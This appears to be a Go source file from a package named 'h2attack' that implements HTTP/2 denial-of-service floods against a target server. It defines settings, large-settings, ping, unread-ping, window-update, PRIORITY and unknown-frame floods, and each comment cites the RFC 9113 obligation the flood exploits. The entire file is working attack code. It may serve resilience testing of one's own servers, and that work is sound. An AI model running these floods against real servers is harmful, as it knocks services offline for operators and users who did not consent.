package h2attack

import (
	"context"

	"golang.org/x/net/http2"
)

// flood repeats a frame over a connection.
func flood(ctx context.Context, dial Dialer, o Options, listen bool, frame func(w *wire, i int) error) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	if listen {
		w.listen()
	}
	w.repeat(func(i int) { w.sent(frame(w, i)) })
	return w.finish()
}

// SettingsFlood changes a setting again and again; the server has to acknowledge
// each (RFC 9113 section 6.5.3).
func SettingsFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, true, func(w *wire, i int) error {
		return w.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i & 1)}) //nolint:gosec // a bit
	})
}

// LargeSettingsFlood opens 100 streams and changes their window 2,000 times with
// each frame.
func LargeSettingsFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	settings := make([]http2.Setting, 2000)
	for i := range settings {
		settings[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i & 1)} //nolint:gosec // a bit
	}
	o = o.withDefaults()
	o.Count = max(o.Count/10, 1)
	return flood(ctx, dial, o, true, func(w *wire, i int) error {
		for i == 0 && w.next < 200 {
			w.call(false)
		}
		return w.fr.WriteSettings(settings...)
	})
}

// PingFlood sends PINGs, each of which the server has to answer (RFC 9113 section
// 6.7).
func PingFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, true, ping)
}

// UnreadPingFlood is PingFlood by somebody who reads no answer, so that these
// pile up where the server does not stop.
func UnreadPingFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, false, ping)
}

func ping(w *wire, _ int) error { return w.fr.WritePing(false, [8]byte{}) }

// WindowUpdateFlood opens the connection's window byte by byte.
func WindowUpdateFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, true, func(w *wire, _ int) error { return w.fr.WriteWindowUpdate(0, 1) })
}

// PriorityFlood sends PRIORITY frames, which have no meaning any more (RFC 9113
// section 5.3.2).
func PriorityFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, true, func(w *wire, _ int) error {
		return w.fr.WritePriority(1, http2.PriorityParam{StreamDep: 3})
	})
}

// UnknownFrameFlood sends frames of a type that nobody knows, which have to be
// ignored (RFC 9113 section 5.5).
func UnknownFrameFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return flood(ctx, dial, o, true, func(w *wire, _ int) error { return w.fr.WriteRawFrame(0xfb, 0, 0, nil) })
}
